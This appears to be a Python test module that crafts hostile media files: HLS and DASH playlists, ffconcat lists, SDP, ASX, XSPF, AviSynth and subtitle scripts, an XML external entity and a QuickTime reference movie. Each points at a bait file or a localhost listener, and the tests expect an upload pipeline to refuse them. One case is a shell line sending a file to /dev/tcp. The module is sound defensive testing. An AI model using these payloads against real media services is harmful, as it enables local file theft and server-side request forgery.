"""Playlists, scripts and other text: whoever believes one opens what it names."""

from functools import partial
from pathlib import Path

from tests.hostile.forge import NO_VIDEO, REFUSED, Crafted, Place, box

HLS = (
    "#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:2\n"
    "{more}#EXTINF:2,\n{target}\n#EXT-X-ENDLIST\n"
)
DASH = (
    '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
    'mediaPresentationDuration="PT2S"><Period><AdaptationSet mimeType="video/mp4">'
    '<Representation id="1" bandwidth="1"><BaseURL>{target}</BaseURL><SegmentBase/>'
    "</Representation></AdaptationSet></Period></MPD>"
)
SDP = (
    "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=a\nc=IN IP4 127.0.0.1\nt=0 0\n"
    "m=video {port} RTP/AVP 96\na=rtpmap:96 H264/90000\n"
)
# {bait}: a video's path; {name}: its name, beside the upload; {url}: where somebody listens.
TEXTS: dict[str, tuple[str, str]] = {
    "concat-beside": ("a.mp4", "ffconcat version 1.0\nfile {name}\n"),
    "concat-elsewhere": ("a.mp4", "ffconcat version 1.0\nfile '{bait}'\nduration 2\n"),
    "concat-http": ("a.mkv", "ffconcat version 1.0\nfile {url}a.mkv\n"),
    "concat-by-its-name": ("a.ffconcat", "ffconcat version 1.0\nfile {name}\n"),
    "concat-unversioned": ("a.concat", "file '{bait}'\n"),
    "hls-file": ("a.mp4", HLS.format(more="", target="file://{bait}")),
    "hls-path": ("a.m3u8", HLS.format(more="", target="{name}")),
    "hls-http": ("a.mp4", HLS.format(more="", target="{url}a.ts")),
    "hls-tcp": ("a.ts", HLS.format(more="", target="tcp://127.0.0.1:{port}")),
    "hls-rtmp": ("a.flv", HLS.format(more="", target="rtmp://127.0.0.1:{port}/a/b")),
    "hls-udp": ("a.ts", HLS.format(more="", target="udp://127.0.0.1:{port}")),
    "hls-data": ("a.mp4", HLS.format(more="", target="data:video/mp2t;base64,R0AREABC8CUAAQ==")),
    "hls-concat": ("a.mp4", HLS.format(more="", target="concat:{bait}|{bait}")),
    "hls-subfile": ("a.mp4", HLS.format(more="", target="subfile,,start,0,end,0,,:{bait}")),
    "hls-crypto": (
        "a.mp4",
        HLS.format(
            more='#EXT-X-KEY:METHOD=AES-128,URI="{url}key",IV=0x00000000000000000000000000000001\n',
            target="crypto+file://{bait}",
        ),
    ),
    "hls-map": ("a.mp4", HLS.format(more='#EXT-X-MAP:URI="{url}init.mp4"\n', target="{name}")),
    "hls-master": (
        "a.mp4",
        "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1,RESOLUTION=1x1\n{url}b.m3u8\n",
    ),
    "hls-behind-a-mark": ("a.mp4", "\ufeff\n" + HLS.format(more="", target="{name}")),
    "dash-http": ("a.mp4", DASH.format(target="{url}a.mp4")),
    "dash-file": ("a.mpd", DASH.format(target="file://{bait}")),
    "sdp": ("a.sdp", SDP),
    "sdp-as-video": ("a.mp4", SDP),
    "rtsp-text": ("a.mov", "rtsptextRTSP://127.0.0.1:{port}/a\r\n"),
    "smooth-streaming": (
        "a.ism",
        (
            '<?xml version="1.0"?><SmoothStreamingMedia MajorVersion="2" Duration="20000000">'
            '<StreamIndex Type="video" Url="{url}"/></SmoothStreamingMedia>'
        ),
    ),
    "imf-package": (
        "a.xml",
        (
            '<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/'
            '2016"><Id>urn:uuid:0</Id></CompositionPlaylist>'
        ),
    ),
    "asx": ("a.asf", '<asx version="3.0"><entry><ref href="{url}a.wmv"/></entry></asx>'),
    "asf-reference": ("a.wmv", "[Reference]\r\nRef1={url}a.wmv\r\nRef2=file://{bait}\r\n"),
    "pls": ("a.pls", "[playlist]\nNumberOfEntries=1\nFile1={url}a.mp4\n"),
    "xspf": (
        "a.xspf",
        (
            '<playlist xmlns="http://xspf.org/ns/0/"><trackList><track><location>file://{bait}'
            "</location></track></trackList></playlist>"
        ),
    ),
    "smil": ("a.rm", '<smil><body><video src="{url}a.rm"/></body></smil>'),
    "real-metafile": ("a.ram", "rtsp://127.0.0.1:{port}/a.rm\n"),
    "ffmetadata": ("a.mp4", ";FFMETADATA1\ntitle={bait}\n[CHAPTER]\nSTART=0\nEND=9\n"),
    "avisynth": ("a.avs", 'AviSource("{bait}")\n'),
    "vapoursynth": (
        "a.vpy",
        "import urllib.request; urllib.request.urlopen('{url}')\nopen(r'{bait}').read()\n",
    ),
    "filter-graph": ("a.lavfi", "movie='{bait}'\n"),
    "subtitles": ("a.mkv", "1\n00:00:00,000 --> 00:00:01,000\n<img src={url}>\n\n" * 9),
    "web-subtitles": ("a.webm", "WEBVTT\n\n00:00.000 --> 00:01.000\n{url}\n"),
    "ssa": ("a.mkv", "[Script Info]\nScriptType: v4.00+\nVideo File: {bait}\n\n[Events]\n"),
    "html": ("a.mp4", "<!doctype html><video autoplay src='{url}a.mp4'></video>"),
    "svg": ("a.mp4", "<svg xmlns='http://www.w3.org/2000/svg'><image href='{url}'/></svg>"),
    "foreign-entity": (
        "a.mpd",
        (
            '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file://{bait}">]>'
            '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011">&b;</MPD>'
        ),
    ),
    "shell": ("a.mp4", "#!/bin/sh\ncat {bait} > /dev/tcp/127.0.0.1/{port}\n"),
    "plain-text": ("a.mp4", "{bait}\n" * 999),
}


def script_cases() -> list[Crafted]:
    """Return a case for every text, and for what names other files in a box of QuickTime's."""
    cases = [
        Crafted(name, file_name, partial(_write, text), REFUSED, NO_VIDEO, is_script=True)
        for name, (file_name, text) in TEXTS.items()
    ]
    named = Crafted("movie-reference", "a.mov", _write_reference_movie, REFUSED, NO_VIDEO)
    return [*cases, named]


def fill(text: str, place: Place) -> str:
    """Return a text with the names of what must not be opened."""
    marks = {
        "{bait}": str(place.bait),
        "{name}": place.bait.name,
        "{url}": f"http://127.0.0.1:{place.port}/",
        "{port}": str(place.port),
    }
    for mark, meant in marks.items():
        text = text.replace(mark, meant)
    return text


def _write(text: str, path: Path, place: Place) -> None:
    path.write_text(fill(text, place), encoding="utf-8")


def _write_reference_movie(path: Path, place: Place) -> None:
    """Write a movie that is nothing but the address of another (rmra/rmda/rdrf)."""
    address = fill("{url}a.mov", place).encode() + b"\0"
    data = b"\0\0\0\0url " + len(address).to_bytes(4, "big") + address
    path.write_bytes(
        box(b"ftyp", b"qt  \0\0\0\0qt  ")
        + box(b"moov", box(b"rmra", box(b"rmda", box(b"rdrf", data))))
    )
